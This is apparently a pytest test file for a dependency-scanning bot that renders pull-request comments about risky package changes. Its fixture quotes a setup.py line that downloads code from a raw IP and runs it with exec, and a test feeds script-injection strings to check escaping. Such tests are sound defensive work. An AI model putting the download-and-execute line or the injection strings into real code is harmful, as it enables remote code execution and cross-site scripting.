"""The pull-request comment, asserted whole."""

from __future__ import annotations

import string

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.model import (
    Action,
    Alert,
    AlertType,
    ChangeKind,
    Location,
    PackageResult,
    ScanResult,
    Severity,
    Verdict,
    canonicalize_name,
)
from bot.report.markdown import (
    COMMENT_MARKER,
    MIN_COMMENT_CHARS,
    needs_comment,
    render_all_clear,
    render_comment,
)

from .samples import alert

URL = "https://github.com/o/r/runs/1"

EXPECTED = """\
<!-- capdiff:report -->
### capdiff — 1 blocking, 2 warnings in 4 changed dependencies (analysis incomplete for 1)

| package | change | new in this release |
|---|---|---|
| **fastjsonx** | added `1.0.2` | ⛔ `typosquat`, ⛔ `install-network` |
| **requests** | `2.31.0` → `2.32.3` | nothing new |
| **tqdm** | `4.66.1` → `4.66.4` | ⚠️ `env-secrets` |
| **httpcore** | added `1.0.5` (via **httpx**) | ⚠️ `network`, ❔ analysis incomplete |

**Analysis incomplete** — capdiff could not read everything, so these packages may bring \
behaviour this report does not show:
- **httpcore** `1.0.5`: the wheel is over the 50 MB download limit
- advisory database unreachable: timed out after 10 s

<details><summary>⛔ fastjsonx 1.0.2 — typosquat</summary>

The name imitates fastjsonschema, a popular project.

Accept (needs write access): `@capdiff ignore fastjsonx@1.0.2 typosquat`
</details>

<details><summary>⛔ fastjsonx 1.0.2 — install-network in setup.py:14</summary>

Installing this package downloads and runs code from a raw IP address.
```python
data = urllib.request.urlopen('http://203.0.113.7/i.py').read()
exec(data)
```

Accept (needs write access): `@capdiff ignore fastjsonx@1.0.2 install-network`
</details>

<details><summary>⚠️ tqdm 4.66.4 — env-secrets in tqdm/contrib/slack.py:41</summary>

Reads SLACK\\_TOKEN from the environment; 4.66.1 did not.
```python
token = os.environ["SLACK_TOKEN"]
```

Accept (needs write access): `@capdiff ignore tqdm@4.66.4 env-secrets`
</details>

<details><summary>⚠️ httpcore 1.0.5 — network in httpcore/_backends/sync.py:12</summary>

Opens network connections.
```python
sock = socket.create_connection(address, timeout)
```

Accept (needs write access): `@capdiff ignore httpcore@1.0.5 network`
</details>

<sub>Policy: `.github/capdiff.yml` on `main` · 4 packages analyzed in 2.4 s · full details in \
[the check run](https://github.com/o/r/runs/1)</sub>
"""


def test_full_comment(result: ScanResult) -> None:
    rendered = render_comment(result, details_url=URL, policy_source=".github/capdiff.yml@main")
    assert rendered == EXPECTED


def test_truncation_drops_details_from_the_end_and_points_to_the_check_run(
    result: ScanResult,
) -> None:
    rendered = render_comment(result, details_url=URL, max_chars=1400)
    assert len(rendered) <= 1400
    assert rendered == (
        EXPECTED.split("<details><summary>⛔ fastjsonx 1.0.2 — install-network", maxsplit=1)[0]
        + "<sub>Policy: built-in defaults · 4 packages analyzed in 2.4 s · full details in "
        "[the check run](https://github.com/o/r/runs/1)</sub>\n\n"
        "… 3 more findings — see [the check run](https://github.com/o/r/runs/1)\n"
    )


def test_truncation_drops_table_rows_after_every_detail(result: ScanResult) -> None:
    rendered = render_comment(result, max_chars=MIN_COMMENT_CHARS + 150)
    assert len(rendered) <= MIN_COMMENT_CHARS + 150
    assert rendered == (
        "<!-- capdiff:report -->\n"
        "### capdiff — 1 blocking, 2 warnings in 4 changed dependencies "
        "(analysis incomplete for 1)\n\n"
        "| package | change | new in this release |\n"
        "|---|---|---|\n"
        "| **fastjsonx** | added `1.0.2` | ⛔ `typosquat`, ⛔ `install-network` |\n"
        "| **requests** | `2.31.0` → `2.32.3` | nothing new |\n\n"
        "… 4 more findings and 2 more packages — see the check run\n"
    )


def test_max_chars_below_the_minimum_is_refused(result: ScanResult) -> None:
    with pytest.raises(ValueError, match="at least 256"):
        render_comment(result, max_chars=100)


def hostile_result() -> ScanResult:
    package = PackageResult(
        name=canonicalize_name("evil"),
        change=ChangeKind.ADDED,
        old_version=None,
        new_version="1.0|`x`\n@y",
        alerts=(
            alert(
                "evil",
                "1.0",
                AlertType.SHELL,
                Action.WARN,
                "Runs @org/team <script>alert(1)</script> | now\nand more",
                file="a|b\n<img src=x>.py",
                line=3,
                evidence="```\n@org/team <script>alert(1)</script>\n````\n| x | y |\n\u202eevil",
            ),
        ),
    )
    return ScanResult(packages=(package,), manifests=(), verdict=Verdict.PASS)


def test_hostile_strings_cannot_break_out() -> None:
    assert render_comment(hostile_result()) == (
        "<!-- capdiff:report -->\n"
        "### capdiff — 1 warning in 1 changed dependency\n\n"
        "| package | change | new in this release |\n"
        "|---|---|---|\n"
        "| **evil** | added ``1.0\\|`x` @y`` | ⚠️ `shell` |\n\n"
        # HTML-escaped in the summary (Markdown is not parsed there); mentions broken by U+200B
        "<details><summary>⚠️ evil 1.0|`x` @\u200by — shell in a|b &lt;img src=x&gt;.py:3"
        "</summary>\n\n"
        "Runs @\u200borg/team \\<script\\>alert\\(1\\)\\</script\\> \\| now and more\n"
        # a fence longer than any backtick run inside; the bidi override made visible
        "`````python\n"
        "```\n@org/team <script>alert(1)</script>\n````\n| x | y |\n<U+202E>evil\n"
        "`````\n\n"
        "Accept (needs write access): ``@capdiff ignore evil@1.0|`x` @y shell``\n"
        "</details>\n\n"
        "<sub>Policy: built-in defaults · 1 package analyzed in 0.0 s · full details in "
        "the check run</sub>\n"
    )


def test_many_alerts_of_one_type_are_grouped() -> None:
    alerts = tuple(
        alert("big", "2.0", AlertType.NETWORK, Action.WARN, f"call {i}", file="m.py", line=i)
        for i in range(1, 8)
    )
    package = PackageResult(
        name=canonicalize_name("big"),
        change=ChangeKind.UPGRADED,
        old_version="1.0",
        new_version="2.0",
        alerts=alerts,
    )
    rendered = render_comment(ScanResult(packages=(package,), manifests=(), verdict=Verdict.PASS))
    details = rendered.split("<details>")[1].split("</details>")[0]
    assert details == (
        "<summary>⚠️ big 2.0 — network in 7 places</summary>\n\n"
        "1. `m.py:1`: call 1\n\n"
        "2. `m.py:2`: call 2\n\n"
        "3. `m.py:3`: call 3\n\n"
        "4. `m.py:4`: call 4\n\n"
        "5. `m.py:5`: call 5\n\n"
        "… and 2 more — see the check run\n\n"
        "Accept (needs write access): `@capdiff ignore big@2.0 network`\n"
    )
    assert "| **big** | `1.0` → `2.0` | ⚠️ `network` ×7 |" in rendered


def test_monitor_only_alerts_stay_out_of_the_comment() -> None:
    package = PackageResult(
        name=canonicalize_name("quiet"),
        change=ChangeKind.UPGRADED,
        old_version="1",
        new_version="2",
        alerts=(alert("quiet", "2", AlertType.FRESH_RELEASE, Action.MONITOR, "new"),),
    )
    result = ScanResult(packages=(package,), manifests=(), verdict=Verdict.PASS)
    assert not needs_comment(result)
    rendered = render_comment(result)
    assert "<details>" not in rendered
    assert (
        "| **quiet** | `1` → `2` | nothing to review (monitored findings in the check run) |"
        in rendered
    )


def test_all_clear(result: ScanResult) -> None:
    assert render_all_clear(result, details_url=URL, policy_source="capdiff.yml") == (
        "<!-- capdiff:report -->\n"
        "✅ no new risky behaviour in 4 changed dependencies\n\n"
        "<sub>Policy: `capdiff.yml` · 4 packages analyzed in 2.4 s · full details in "
        "[the check run](https://github.com/o/r/runs/1)</sub>\n"
    )


def test_needs_comment(result: ScanResult) -> None:
    assert needs_comment(result)
    assert not needs_comment(ScanResult(packages=(), manifests=(), verdict=Verdict.PASS))


# --- property: never too long, always the marker --------------------------------------------

_text = st.text(alphabet=string.printable + "`@|<>\u202e\u200b→é", max_size=120)
_alerts = st.builds(
    Alert,
    type=st.sampled_from(AlertType),
    severity=st.sampled_from(Severity),
    action=st.sampled_from(Action),
    message=_text,
    package=st.just(canonicalize_name("pkg")),
    version=st.none() | _text,
    file=st.none() | _text,
    line=st.none() | st.integers(0, 10**6),
    evidence=st.text(max_size=400),
)
_packages = st.builds(
    PackageResult,
    name=st.from_regex(r"[a-z][a-z0-9-]{0,30}", fullmatch=True).map(canonicalize_name),
    change=st.sampled_from(ChangeKind),
    old_version=st.none() | _text,
    new_version=st.none() | _text,
    alerts=st.lists(_alerts, max_size=8).map(tuple),
    via=st.lists(st.just(canonicalize_name("parent")), max_size=2).map(tuple),
    locations=st.just((Location(path="requirements.txt", line=1),)),
    incomplete_reasons=st.lists(_text, max_size=2).map(tuple),
)
_results = st.builds(
    ScanResult,
    packages=st.lists(_packages, max_size=25).map(tuple),
    manifests=st.just(("requirements.txt",)),
    verdict=st.sampled_from(Verdict),
    duration_seconds=st.floats(0, 10**6),
    errors=st.lists(_text, max_size=3).map(tuple),
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    result=_results,
    max_chars=st.integers(MIN_COMMENT_CHARS, 6000),
    details_url=st.none() | st.just(URL) | st.text(max_size=3000),
)
def test_comment_never_exceeds_max_chars(
    result: ScanResult, max_chars: int, details_url: str | None
) -> None:
    rendered = render_comment(result, max_chars=max_chars, details_url=details_url)
    assert len(rendered) <= max_chars
    assert rendered.startswith(COMMENT_MARKER + "\n### capdiff — ")
